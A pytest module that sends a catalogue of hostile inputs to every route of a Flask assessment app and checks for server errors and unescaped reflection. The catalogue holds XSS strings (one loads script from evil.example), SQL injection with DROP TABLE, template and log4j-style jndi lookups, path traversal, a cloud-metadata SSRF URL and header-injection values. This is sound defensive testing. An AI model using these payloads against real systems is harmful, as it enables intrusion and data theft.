"""Hostile input catalogue: at least 200 distinct bad inputs against every form route and API route.

Every route parameter of ``app.url_map`` gets path tricks; every text field gets script, SQL, Unicode,
template and oversized payloads; every answer type gets wrong types and unknown options; every form
and API route gets body and header abuse; the API gets malformed JSON.  Across the whole catalogue:

* no response is a 5xx (all of them are collected and reported together);
* no response reflects a payload as live markup;
* afterwards, every page that shows stored text shows the payloads HTML-escaped only;
* a submitted assessment and a draft saved before the catalogue keep exactly their answers.

Replayed and cross-session CSRF tokens have their own test (CSRF on, as in production).
Everything goes through the Flask test client (no live server), so the module runs in well under a minute.
"""

from __future__ import annotations

import re
import secrets
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape
from werkzeug.routing import IntegerConverter

from benchmark.extensions import db
from benchmark.organisations.assessment.forms import field_name
from benchmark.organisations.plan import services as plan
from benchmark.staff.accounts import services as account_services
from benchmark.staff.accounts.services import create_user, issue_reset
from benchmark.store import api_tokens as tokens
from benchmark.store import assessments as services
from benchmark.store import shares, teams
from benchmark.store.models import ImportedBaseline
from tests.factories import BASE_ANSWERS, PASSWORD, TOKEN_IN_URL, create_workshop, seed_participant, seed_submission

ADMIN = "admin@example.org"
VICTIM = "victim@example.org"

# ============================================================================ the catalogue

#: Script injection: every one is tried in every text field.
SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
#: SQL injection.
SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE assessment; --",
    '"; DROP TABLE answer; --',
    "' UNION SELECT token_hash FROM assessment --",
    "admin@example.org'--",
    "1); SELECT pg_sleep(5); --",
    "' || (SELECT version()) || '",
]
#: Unicode edge cases (lone surrogates cannot be sent as text: they are percent-encoded in BODIES and PATHS).
UNICODE = [
    "\u202eevil\u202c",  # right-to-left override
    "a\u200d\u200d\u200db",  # zero-width joiners
    "\u200b\u200c\ufeff",  # zero-width space, non-joiner, BOM: "empty" but not whitespace
    "e" + "\u0301" * 200,  # combining marks
    "\x00",  # NUL
    "a\x00b",
    "\x1b[31mred\x1b[0m",  # ANSI escape
    "\U0001f600",  # 4-byte emoji
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # emoji ZWJ sequence
    "\uff11\uff10",  # fullwidth "10"
    "\U0010ffff\uffff",  # last code point, non-character
    "\u0130stanbul \u00df \ufb01",  # case mapping changes the length
    "\u00a0\u3000",  # non-breaking and ideographic spaces only
    "Z\u0334\u0321\u0327\u034e\u0332\u0300\u0350\u0344\u0352",  # "zalgo"
    "\u0430dmin@example.org",  # Cyrillic homoglyph
]
#: Template and format-string injection.
TEMPLATE = [
    "{{7*7}}",
    "{{config}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "%s%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.example/x}",
]
#: Oversized and path-like text.
LONG_AND_PATHS = [
    "x" * 121,
    "x" * 5_000,
    "x" * 100_000,
    "\U0001f600" * 3_000,
    "../../../../etc/passwd",
    "//evil.example",
    "http://169.254.169.254/latest/meta-data/",
    # shaped for one field, tried in all: an address with NUL, baseline names with odd versions
    "a\x00b@example.org",
    "\x00@1",
    "m@\u00b2",  # superscript two: str.isdigit() says yes, int() says no
    "m@99999999999999999999",
]
TEXT_PAYLOADS = SCRIPT + SQL + UNICODE + TEMPLATE + LONG_AND_PATHS

#: Values for answer fields: unknown option ids, wrong types, numbers that are not 0–10 (fullwidth included).
CHOICE_PAYLOADS = [
    # unknown option ids, near misses of real ones
    "bogus",
    "shared_roles ",
    " executive",
    "EXECUTIVE",
    "Executive",
    "executive\x00",
    "executive\n",
    "executive\u200b",
    "\u0435xecutive",  # Cyrillic e
    "ｅｘｅｃｕｔｉｖｅ",  # fullwidth
    "executive;program_staff",
    "executive&q22=it_staff",
    "%65xecutive",
    "no_one,shared_roles",
    "no_one",
    "q1",
    "../importance",
    "x" * 5_000,
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    # wrong types
    "[]",
    "{}",
    '["shared_roles"]',
    '{"$ne": null}',
    "null",
    "true",
    "None",
    "undefined",
    "NaN",
    "Infinity",
    "\u221e",
    # numbers outside 0–10, or not written as the plain digits 0–10
    "-0",
    "-1",
    "\u22121",  # minus sign
    "11",
    "10.0",
    "7.5",
    "1,5",
    "1/2",
    "\u00bd",
    "1e1",
    "7e0",
    "0x7",
    "0b111",
    "1_0",
    "+7",
    "007",
    "7 ",
    "99999999999999999999999",
    "\uff17",  # fullwidth 7
    "\uff11\uff10",  # fullwidth 10
    "\uff10",  # fullwidth 0
    "\u0667",  # Arabic-Indic 7 (int() accepts it)
    "\u096d",  # Devanagari 7
    "\U0001d7d5",  # mathematical bold 7
    "\u2077",  # superscript 7
    "\u2466",  # circled 7
    "\u2166",  # Roman numeral seven
    "7\u200b",
    "7\u0301",  # combining mark
    "\u202e7",
    "\U0001f600",
    "7\x00",
    "%37",
    "&#55;",
    "7\t",
    "10\u00a0",
    "yes",
    "minor ",
    "MAJOR",
    "not concern",
]

#: Raw path segments, put as they are into every argument of every route.
PATH_PAYLOADS = [
    "..%2f..%2f..%2fetc%2fpasswd",
    "%00",
    "%0d%0aSet-Cookie:%20x=1",
    "A" * 3_000,
    "%ED%A0%80",  # a lone surrogate, percent-encoded
    "%F0%9F%98%80",  # emoji
    "%EF%BC%97",  # fullwidth 7
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "99999999999999999999",
    "-1",
]

#: Raw query strings, tried on every route that reads its query and on every API route.
QUERY_PAYLOADS = [
    "lang=%FF",
    "lang=fr&lang=en&lang=%3Cx%3E",
    "%00=1",
    "lang[]=en&by[]=size",
    "x=" + "y" * 20_000,
    "deactivated=99999999999999999999",
    "next=//evil.example",
    "next=/%0d%0aSet-Cookie:x=1",
    "next=javascript:alert(1)",
    "baseline=%00@1",
    "baseline=%3Cscript%3E@1",
    "component=%ED%A0%80&by=%00",
    "table=..%2F..%2Fetc%2Fpasswd",
    "layout=tasks&task=..%2F..%2Fadmin",
    "code=%00%00",
    "new=%3Csvg%20onload%3Dalert(1)%3E",
]

ALL_FORM_FIELDS = [
    *("label", "link", "title", "held_on", "language", "pages", "previous_id", "code", "earlier_link", "share"),
    *("email", "password", "next", "current_password", "role", "name", "status"),
    *("action", "layout", "task", "revision", "return_to", "q1", "q4", "q22", "q26"),
]
FORM = "application/x-www-form-urlencoded"

#: Raw bodies (and their content types), tried on every form route.
BODIES: list[tuple[str, bytes, str]] = [
    ("oversized urlencoded", b"label=" + b"x" * 300_000, FORM),
    (
        "oversized multipart",
        b'--b\r\nContent-Disposition: form-data; name="label"\r\n\r\n' + b"x" * 300_000 + b"\r\n--b--\r\n",
        "multipart/form-data; boundary=b",
    ),
    (
        "too many multipart parts",
        b"".join(b'--b\r\nContent-Disposition: form-data; name="f%d"\r\n\r\nv\r\n' % i for i in range(500))
        + b"--b--\r\n",
        "multipart/form-data; boundary=b",
    ),
    ("invalid UTF-8", b"label=caf%C3%28%FF&title=%FF&email=%FE&code=%C0", FORM),
    ("lone surrogate percent-encoded", b"label=%ED%A0%80&title=%ED%B0%80&q1=%ED%A0%80", FORM),
    ("overlong UTF-8", b"label=%C0%AF%E0%80%AF&link=%C0%AE%C0%AE", FORM),
    ("raw invalid bytes", b"label=\xff\xfe\x00\x01&title=\x80", FORM),
    ("bad percent escapes", b"label=%&title=%zz&email=%%41&code=%G0", FORM),
    ("NUL in every field", "&".join(f"{name}=%00" for name in ALL_FORM_FIELDS).encode(), FORM),
    ("CRLF in every field", "&".join(f"{name}=a%0D%0ASet-Cookie:x=1" for name in ALL_FORM_FIELDS).encode(), FORM),
    ("one key 300 times", b"&".join(b"q4=shared_roles" for _ in range(300)), FORM),
    ("nested bracket keys", b"a[b][c][d][e]=1&q4[]=x&q4[0]=y&label[]=z", FORM),
    ("50 kB field name", b"k" * 50_000 + b"=1", FORM),
    ("JSON labelled as a form", b'{"label": "<script>alert(1)</script>", "q1": 7}', FORM),
    (
        "truncated multipart",
        b'--b\r\nContent-Disposition: form-data; name="label"\r\n\r\nabc',
        "multipart/form-data; boundary=b",
    ),
    ("form labelled as text/plain", b"label=x&title=y&action=save", "text/plain"),
    ("latin-1 charset form", b"label=caf\xe9&title=\xe9t\xe9", "application/x-www-form-urlencoded; charset=latin-1"),
]

#: Header abuse: (name, headers, environ overrides), tried on every form route and every API route.
HEADERS: list[tuple[str, dict[str, str], dict[str, Any]]] = [
    ("100 kB header", {"X-Junk": "a" * 100_000}, {}),
    ("8 kB garbage cookie", {"Cookie": "session=" + "a" * 8_000}, {}),
    ("forged session cookie", {"Cookie": "session=eyJ1c2VyX2lkIjoxfQ.ZZZZZZ.forged-signature"}, {}),
    ("bad Host", {"Host": "evil.example"}, {}),
    ("unclosed IPv6 Host", {"Host": "[::1"}, {}),
    ("1000-char Host", {"Host": "a" * 1_000}, {}),
    ("Host with a path", {"Host": "evil.example/x?y#z"}, {}),
    ("Accept-Language q=abc", {"Accept-Language": "*;q=abc,fr;q=NaN,en;q=-1"}, {}),
    ("Accept-Language 5000 chars", {"Accept-Language": "fr-" + "x" * 5_000}, {}),
    ("Accept-Language non-ASCII", {"Accept-Language": "\u00e9\u00e9-\u00e9\u00e9;q=1"}, {}),
    ("Accept q=junk", {"Accept": "application/json;q=junk, */*;q=2, text/html;level=<x>"}, {}),
    ("Accept-Encoding junk", {"Accept-Encoding": "gzip;q=abc, br;q=NaN, *;q=-1"}, {}),
    ("X-Forwarded-For script", {"X-Forwarded-For": "<script>alert(1)</script>"}, {}),
    ("X-Forwarded-For 1000 hops", {"X-Forwarded-For": ", ".join(["9.9.9.9"] * 1_000)}, {}),
    ("X-Forwarded-For bad addresses", {"X-Forwarded-For": "::ffff:999.1.1.1, ../.., unknown, 0x7f.1"}, {}),
    ("X-Forwarded-Host and Proto", {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "gopher"}, {}),
    ("remote address not an IP", {}, {"REMOTE_ADDR": "not-an-ip"}),
    ("bearer script", {"Authorization": "Bearer <script>alert(1)</script>"}, {}),
    ("10 kB bearer", {"Authorization": "Bearer " + "A" * 10_000}, {}),
    ("bad Range", {"Range": "bytes=abc-, 999999999999999999999-"}, {}),
    ("Content-Length larger than the limit", {}, {"CONTENT_LENGTH": "99999999999"}),
    ("referer and origin tricks", {"Referer": "javascript:alert(1)", "Origin": "null"}, {}),
]

#: Malformed JSON for the API (GET with a body, and the methods the API does not allow).
JSON_BODIES: list[tuple[str, bytes]] = [
    ("unterminated object", b"{"),
    ("missing value", b'{"a":}'),
    ("unterminated array", b"[1,2"),
    ("bare NaN", b"NaN"),
    ("huge exponent", b'{"lang": 1e99999}'),
    ("10000-deep nesting", b"[" * 10_000 + b"]" * 10_000),
    ("escaped lone surrogate", b'{"lang": "\\ud800"}'),
    ("invalid UTF-8", b'{"lang": "\xff\xfe"}'),
    ("NUL string", b'"\\u0000"'),
    ("duplicate keys", b'{"lang": "fr", "lang": "<script>"}'),
    ("prototype pollution", b'{"__proto__": {"admin": true}, "constructor": {"prototype": {}}}'),
    ("300 kB document", b'{"x": "' + b"a" * 300_000 + b'"}'),
    ("trailing garbage", b'{"lang": "fr"} <script>'),
    ("BOM then JSON", b'\xef\xbb\xbf{"lang": "fr"}'),
    ("UTF-16 JSON", '{"lang": "fr"}'.encode("utf-16")),
    ("JSON-looking form", b"lang=fr&{}=[]"),
]
JSON_METHODS = ("POST", "PUT", "PATCH", "DELETE", "OPTIONS")


def catalogue() -> set[tuple[str, str]]:
    """Every distinct bad input of the catalogue, as (kind, value)."""
    return (
        {("text", repr(p)) for p in TEXT_PAYLOADS}
        | {("choice", repr(p)) for p in CHOICE_PAYLOADS}
        | {("path", p) for p in PATH_PAYLOADS}
        | {("query", q) for q in QUERY_PAYLOADS}
        | {("body", name) for name, _b, _t in BODIES}
        | {("header", name) for name, _h, _e in HEADERS}
        | {("json", name) for name, _b in JSON_BODIES}
    )


# ============================================================================ the world


@dataclass
class World:
    """Who sends, and what exists before the catalogue."""

    admin: FlaskClient
    anonymous: FlaskClient
    code: str
    submitted: str  # must stay exactly as it is
    draft: str  # must keep exactly its answers
    scratch: str  # a draft that may change (hidden fields, review/submit)
    to_delete: str  # a draft the delete route may delete
    submitted_to_delete: str  # a submission the results delete route may delete
    dimension: str  # a component of the rubric (funding lines)
    participant: str
    reset_token: str
    api_token: str
    share_token: str  # a board link of the submission
    ids: dict[str, int] = field(default_factory=dict)
    team_token: str = ""  # the submission's team link

    def token_for(self, endpoint: str) -> str:
        """A valid token for a route (sacrificial ones where the route deletes or changes things)."""
        return {
            "assessment.delete": self.to_delete,
            "results.delete": self.submitted_to_delete,
            "workshops.consent": self.participant,
            "accounts.reset": self.reset_token,
        }.get(endpoint) or (self.submitted if endpoint.startswith(("results.", "plan.", "team.")) else self.scratch)

    def client_for(self, endpoint: str) -> FlaskClient:
        """Signing out and signing in are tried anonymously; everything else as an administrator."""
        return self.anonymous if endpoint in {"accounts.sign_out", "accounts.sign_in"} else self.admin


#: The draft's answers: page data for the pages the catalogue hits; q26 (required) is missing, so submit fails.
DRAFT_ANSWERS: dict[str, Any] = {
    **{k: v for k, v in BASE_ANSWERS.items() if k != "q26"},
    "q1": 6,
    "q22": "executive",
    "q5": ["announce_events"],
}


def seed_draft(app: Flask, answers: dict[str, Any]) -> str:
    with app.app_context():
        content = app.extensions["content"]
        assessment, token = services.start_assessment(content.questionnaire, "en", None)
        if answers:
            services.save_answers(assessment, answers, "importance")
    return token


def answers_of(app: Flask, token: str) -> tuple[str, dict[str, Any]]:
    with app.app_context():
        assessment = services.find_by_token(token)
        assert assessment is not None
        return assessment.status, assessment.answer_map()


def sign_in(client: FlaskClient, email: str) -> None:
    response = client.post("/en/account/sign-in", data={"email": email, "password": PASSWORD})
    assert response.status_code == 303, response.status_code


def seed_accounts(app: Flask, *admins: str) -> tuple[str, str, dict[str, int]]:
    """Administrators, a facilitator to deactivate, a set-password link, API tokens (one kept, one to
    revoke) and an imported baseline: (reset token, API bearer token, ids for the route arguments)."""
    with app.app_context():
        for email in admins:
            create_user(email, "admin", PASSWORD)
        victim = create_user(VICTIM, "facilitator", PASSWORD)
        reset_token = issue_reset(create_user("reset@example.org", "analyst"))
        _kept, bearer = tokens.create_token("catalogue")
        to_revoke, _plain = tokens.create_token("to revoke")
        baseline = ImportedBaseline(name="m", version=1, kind="per_option_shares", source="test", figures={})
        db.session.add(baseline)
        db.session.commit()
        ids = {"user_id": victim.id, "token_id": to_revoke.id, "baseline_id": baseline.id}
    return reset_token, bearer, ids


def seed_world(
    app: Flask, admin: FlaskClient, workshop_id: int, reset_token: str, bearer: str, ids: dict[str, int]
) -> World:
    """The assessments: one submitted and one draft that must stay intact, and sacrificial ones."""
    with app.app_context():
        from benchmark.store.models import Workshop

        code = db.session.get(Workshop, workshop_id).join_code
    submitted = seed_submission(app, BASE_ANSWERS)
    with app.app_context():
        # The submission's organisation has a plan: a step and a cost line for the plan routes' ids.
        organisation_id = services.find_by_token(submitted).organisation_id
        dimension = app.extensions["content"].rubric.dimension_ids()[0]
        fields = plan.StepFields("", "ok", "", "", "ok", date(2030, 1, 1), "todo", "")
        ids = {**ids, "step_id": plan.add_step(organisation_id, fields).id}
        plan.add_funding_line(organisation_id, dimension, "training", 1, "")
        ids["line_id"] = plan.funding_lines_of(organisation_id)[0].id
        # A board link to open, and one the revoke route may revoke.
        assessment = services.find_by_token(submitted)
        _share, share_token = shares.create_share(assessment, submitted, "Board")
        ids["share_id"] = shares.create_share(assessment, submitted, "Old board")[0].id
        team_token = teams.make_link(assessment)
    return World(
        admin=admin,
        anonymous=app.test_client(),
        code=code,
        submitted=submitted,
        dimension=dimension,
        draft=seed_draft(app, DRAFT_ANSWERS),
        scratch=seed_draft(app, {"q1": 3}),
        to_delete=seed_draft(app, {}),
        submitted_to_delete=seed_submission(app, BASE_ANSWERS),
        participant=seed_participant(app, workshop_id, BASE_ANSWERS),
        reset_token=reset_token,
        api_token=bearer,
        share_token=share_token,
        ids={**ids, "workshop_id": workshop_id},
        team_token=team_token,
    )


@pytest.fixture
def world(app: Flask, monkeypatch: pytest.MonkeyPatch) -> World:
    # Unknown addresses cost one argon2 hash each (constant-time sign-in); hundreds of hostile
    # sign-ins would take minutes, and the hash is not what this catalogue tests.
    monkeypatch.setattr(account_services, "_spend_verification_time", lambda password: None)
    reset_token, bearer, ids = seed_accounts(app, ADMIN)
    admin = app.test_client()
    sign_in(admin, ADMIN)
    workshop_id, _code = create_workshop(admin, title="Seed workshop")
    # The bundles are built by now: skip the per-request timestamp checks (a third of a page's time).
    app.config["ASSETS_AUTO_BUILD"] = False
    return seed_world(app, admin, workshop_id, reset_token, bearer, ids)


SENTINEL = "SENTINELx"
SENTINEL_INT = 987654321


def route_url(rule: Any, world: World, trick: tuple[str, str] | None = None) -> str:
    """The URL of a rule with valid arguments, one of which (``trick``: argument, raw segment) replaced."""
    values: dict[str, Any] = {"lang_code": "en"}
    for argument in rule.arguments:
        if argument == "token":
            values["token"] = world.token_for(rule.endpoint)
        elif argument == "share_token":
            values["share_token"] = world.share_token
        elif argument == "team_token":
            values["team_token"] = world.team_token
        elif argument == "page_id":
            values["page_id"] = "importance"
        elif argument == "filename":
            values["filename"] = "favicon.svg"
        elif argument == "name":
            values["name"] = "published-2017"
        elif argument in world.ids:
            values[argument] = world.ids[argument]
    if rule.endpoint == "assessment.page" and trick:
        # Path tricks aim at the draft that must stay intact (a GET never changes answers). Bodies and
        # headers go to the scratch draft: a POST whose form is empty or unreadable as a form clears
        # the page's answers, as a browser's form with nothing ticked does.
        values["token"] = world.draft
    if trick:
        values[trick[0]] = SENTINEL_INT if isinstance(rule._converters.get(trick[0]), IntegerConverter) else SENTINEL
    url = rule.build(values, append_unknown=False)[1]
    if trick:
        url = url.replace(SENTINEL, trick[1]).replace(str(SENTINEL_INT), trick[1])
    return url


def post_data(endpoint: str, world: World) -> dict[str, Any]:
    """Plausible form data for a POST route (the field under test is then replaced)."""
    return {
        "assessment.start": {"label": "ok"},
        "assessment.resume_from_link": {"link": world.draft},
        "assessment.page": {"q1": "6", "action": "save"},
        "workshops.join": {"code": world.code},
        "workshops.create": {"title": "ok", "language": "en", "pages": ["importance"], "previous_id": "0"},
        "workshops.change_status": {"status": "open"},
        "accounts.sign_in": {"email": "nobody@example.org", "password": "wrong password"},
        # a new password the policy refuses: no argon2 check of the current one on every request
        "accounts.change_password": {"current_password": "wrong password", "password": "short"},
        "accounts.reset": {"password": "x"},
        "accounts.users": {"email": "new@example.org", "role": "facilitator"},
        "admin.index": {"name": "ok", "scopes": "uptake", "days": "90"},
        "plan.new_step": {"custom_text": "ok", "owner": "ok", "due_on": "2030-01-01", "status": "todo"},
        "plan.edit_step": {"custom_text": "ok", "owner": "ok", "due_on": "2030-01-01", "status": "todo"},
        "plan.view": {"dimension": world.dimension, "category": "training", "amount": "1"},
        "results.create_share": {"label": "ok"},
    }.get(endpoint, {})


# ============================================================================ sending and checking


class LiveMarkup(HTMLParser):
    """Finds markup a payload could have made live: event handlers, javascript: links, inline scripts."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if name in self.URL_ATTRIBUTES and re.sub(r"[\s\x00-\x1f]", "", value or "").lower().startswith(
                ("javascript:", "data:text/html")
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in {"iframe", "object", "embed", "base", "math"}:
            self.found.append(f"<{tag}>")
        if tag == "meta" and any(n == "http-equiv" and (v or "").lower() == "refresh" for n, v in attrs):
            self.found.append("<meta http-equiv=refresh>")
        self._in_script = tag == "script" and dict(attrs).get("type") != "application/json"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"inline script {data.strip()[:40]!r}")


def live_markup(html: str) -> list[str]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


def dangerous(payload: str) -> bool:
    """Whether the payload would be live markup if reflected unescaped."""
    return any(char in payload for char in "<>\"'")


@dataclass
class Probe:
    """Sends the catalogue and collects 5xx answers, reflected payloads and non-JSON API errors."""

    sent: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    kinds: Counter[str] = field(default_factory=Counter)
    tried: set[tuple[str, str]] = field(default_factory=set)
    server_errors: list[str] = field(default_factory=list)
    reflected: list[str] = field(default_factory=list)
    api_not_json: list[str] = field(default_factory=list)

    def send(
        self,
        client: FlaskClient,
        kind: str,
        value: str,
        method: str,
        url: str,
        *,
        payload: str | None = None,
        **kwargs: Any,
    ) -> Any:
        """Send one request; returns (status, Location header) or None when the app raised."""
        self.tried.add((kind, value))
        self.kinds[kind] += 1
        self.sent += 1
        where = f"[{kind} {value[:60]!r}] {method} {url[:120]}"
        try:
            with client.open(url, method=method, **kwargs) as response:
                status = response.status_code
                location = response.headers.get("Location", "")
                mimetype = response.mimetype
                encoded = response.headers.get("Content-Encoding")
                body = response.get_data(as_text=True) if mimetype == "text/html" and not encoded else ""
        except Exception as error:  # the app let an exception escape: as bad as a 500
            self.server_errors.append(f"{where} raised {error!r}")
            return None
        self.statuses[status] += 1
        if status >= 500:
            self.server_errors.append(f"{where} -> {status}")
        if url.startswith("/api/") and status >= 400 and mimetype != "application/json":
            self.api_not_json.append(f"{where} -> {status} {mimetype}")
        if body and payload and dangerous(payload) and payload.lower() in body.lower():
            self.reflected.append(f"{where}: payload reflected unescaped")
        if body and ("alert(" in body or "evil.example" in body):
            self.reflected += [f"{where}: {found}" for found in live_markup(body)]
        return status, location


# ============================================================================ the catalogue test


TEXT_FIELDS: list[tuple[str, str]] = [
    # (endpoint, field) — form fields; the API's are query parameters (below)
    ("assessment.start", "label"),
    ("assessment.resume_from_link", "link"),
    ("workshops.create", "title"),
    ("workshops.create", "held_on"),
    ("workshops.join", "code"),
    ("workshops.join", "earlier_link"),
    ("accounts.sign_in", "email"),
    ("accounts.sign_in", "next"),
    ("accounts.users", "email"),
    ("admin.index", "name"),
    ("accounts.reset", "password"),
    ("assessment.page", "task"),
    ("plan.new_step", "custom_text"),
    ("plan.new_step", "owner"),
    ("plan.new_step", "due_on"),
    ("plan.edit_step", "note"),
    ("plan.view", "amount"),
    ("plan.view", "description"),
    ("results.create_share", "label"),
]
API_TEXT_PARAMETERS = [
    ("/api/v1/questionnaire", "lang"),
    ("/api/v1/aggregates", "by"),
    ("/api/v1/uptake", "by"),
]
#: Answer fields of the draft: (page, field).
ANSWER_FIELDS = [
    ("importance", "q1"),
    ("organisation", "q22"),
    ("capacity-communication", "q4"),
    ("concerns", "q8-staff_literacy"),
]
#: GET routes that read their query string (besides the API).
QUERY_READERS = (
    "results.profile",
    "share.profile",
    "assessment.page",
    "assessment.private_link",
    "accounts.users",
    "accounts.sign_in",
    "workshops.join",
    "workshops.live_fragment",
    "sector.dashboard",
    "sector.export_csv",
    "sector.export_json",
    "root",
)


def page_data(app: Flask, page_id: str, answers: dict[str, Any]) -> dict[str, Any]:
    """The saved answers of one page as form data (so a save with them changes nothing)."""
    q = app.extensions["content"].questionnaire
    page = q.page(page_id)
    data: dict[str, Any] = {}
    for key in q.page_answer_keys(page):
        value = answers.get(key)
        if value is not None:
            data[field_name(key)] = [str(v) for v in value] if isinstance(value, list) else str(value)
    return data


def run_catalogue(app: Flask, world: World, probe: Probe) -> dict[str, list[str]]:
    """Send every bad input; return what was stored on purpose (labels' tokens, workshops) for the page checks."""
    rules = {rule.endpoint: rule for rule in app.url_map.iter_rules()}
    post_rules = sorted((r for r in rules.values() if "POST" in r.methods), key=lambda r: r.endpoint)
    api_rules = sorted((r for r in rules.values() if r.endpoint.startswith("api.")), key=lambda r: r.endpoint)
    stored: dict[str, list[str]] = {"labels": [], "workshops": []}
    auth = {"Authorization": f"Bearer {world.api_token}"}

    # 1. text payloads in every text field
    for payload in TEXT_PAYLOADS:
        for endpoint, name in TEXT_FIELDS:
            data = {**post_data(endpoint, world), name: payload}
            url = route_url(rules[endpoint], world)
            if endpoint == "assessment.page":
                url = f"/en/assessment/{world.scratch}/internal-tasks"
                data = {"layout": "tasks", "action": "next", "q2_1": ["email"], "task": payload}
            result = probe.send(
                world.client_for(endpoint), "text", repr(payload), "POST", url, data=data, payload=payload
            )
            if result and result[0] == 302 and endpoint == "assessment.start":
                match = TOKEN_IN_URL.search(result[1] + "/")
                if match:
                    stored["labels"].append(match.group(1))
            if result and result[0] == 302 and endpoint == "workshops.create":
                stored["workshops"].append(result[1].rstrip("/").split("/")[-1])
        text_reads = [(world.anonymous, path, {name: payload}, auth) for path, name in API_TEXT_PARAMETERS]
        text_reads += [
            (world.anonymous, "/api/v1/questionnaire", {payload: "1"}, None),
            (world.anonymous, "/api/v1/baselines/" + quote(payload, safe=""), None, None),
            (world.admin, f"/en/results/{world.submitted}", {"baseline": payload}, None),
        ]
        for client, path, query, headers in text_reads:
            probe.send(client, "text", repr(payload), "GET", path, query_string=query, headers=headers, payload=payload)

    # 2. wrong types and unknown options in every kind of answer: the draft (its other answers re-sent
    #    as saved, so nothing may change) and the submitted assessment (nothing may change at all)
    status, saved = answers_of(app, world.draft)
    assert status == "draft"
    for index, payload in enumerate(CHOICE_PAYLOADS):
        # the 0–10 scale, then one of the other kinds of answer in turn (each gets every kind of bad value)
        for page_id, name in (ANSWER_FIELDS[0], ANSWER_FIELDS[1 + index % (len(ANSWER_FIELDS) - 1)]):
            data = page_data(app, page_id, saved)
            data[name] = [*data[name], payload] if isinstance(data.get(name), list) else payload
            probe.send(
                world.anonymous,
                "choice",
                repr(payload),
                "POST",
                f"/en/assessment/{world.draft}/{page_id}",
                data={**data, "action": "save"},
                payload=payload,
            )
        page_id, name = ANSWER_FIELDS[index % len(ANSWER_FIELDS)]
        probe.send(
            world.anonymous,
            "choice",
            repr(payload),
            "POST",
            f"/en/assessment/{world.submitted}/{page_id}",
            data={name: payload, "action": "next"},
            payload=payload,
        )

    # 3. path tricks in every argument of every route
    for rule in sorted(app.url_map.iter_rules(), key=lambda r: r.endpoint):
        method = "GET" if "GET" in rule.methods else "POST"
        client = world.client_for(rule.endpoint)
        for argument in sorted(rule.arguments):
            for trick in PATH_PAYLOADS:
                probe.send(client, "path", trick, method, route_url(rule, world, (argument, trick)))

    # 4. query strings on every route that reads one, and on the API
    for payload in QUERY_PAYLOADS:
        for endpoint in QUERY_READERS:
            url = route_url(rules[endpoint], world)
            probe.send(world.client_for(endpoint), "query", payload, "GET", f"{url}?{payload}")
        for rule in api_rules:
            probe.send(world.anonymous, "query", payload, "GET", f"{route_url(rule, world)}?{payload}", headers=auth)

    # 5. raw bodies on every form route, and 6. header abuse on every form and API route
    for name, body, content_type in BODIES:
        for rule in post_rules:
            probe.send(
                world.client_for(rule.endpoint),
                "body",
                name,
                "POST",
                route_url(rule, world),
                data=body,
                content_type=content_type,
            )
    for name, headers, environ in HEADERS:
        for rule in post_rules:
            probe.send(
                world.client_for(rule.endpoint),
                "header",
                name,
                "POST",
                route_url(rule, world),
                data=post_data(rule.endpoint, world),
                headers=headers,
                environ_overrides=environ,
            )
        for rule in api_rules:
            probe.send(
                world.anonymous,
                "header",
                name,
                "GET",
                route_url(rule, world),
                headers={**auth, **headers},
                environ_overrides=environ,
            )

    # 7. malformed JSON on every API route, with every method
    for index, (name, body) in enumerate(JSON_BODIES):
        for number, rule in enumerate(api_rules):
            for method in ("GET", JSON_METHODS[(index + number) % len(JSON_METHODS)]):
                probe.send(
                    world.anonymous,
                    "json",
                    name,
                    method,
                    route_url(rule, world),
                    data=body,
                    content_type="application/json",
                    headers=auth,
                )
    return stored


# ----------------------------------------------------------------------------- stored text


def pages_with_stored_text(app: Flask, world: World, stored: dict[str, list[str]]) -> Iterator[tuple[str, str]]:
    """Every page that shows text people typed: (url, html)."""
    client = world.admin
    labels = stored["labels"]
    for token in labels:
        yield f"link {token[:6]}", client.get(f"/en/assessment/{token}/link").get_data(as_text=True)
    # A few labelled drafts go all the way: review, submit, done, results.
    for token in labels[:: max(1, len(labels) // 6)]:
        client.post(
            f"/en/assessment/{token}/organisation",
            data={"q23": "yes_current", "q25": "6_10", "q26": ["on"], "action": "save"},
        )
        for url in (f"/fr/assessment/{token}/review", f"/en/assessment/{token}/delete"):
            yield url, client.get(url).get_data(as_text=True)
        assert client.post(f"/en/assessment/{token}/review").status_code == 302
        for url in (f"/en/assessment/{token}/done", f"/en/results/{token}", f"/fr/results/{token}"):
            yield url, client.get(url).get_data(as_text=True)
    yield "draft review", client.get(f"/en/assessment/{world.draft}/review").get_data(as_text=True)
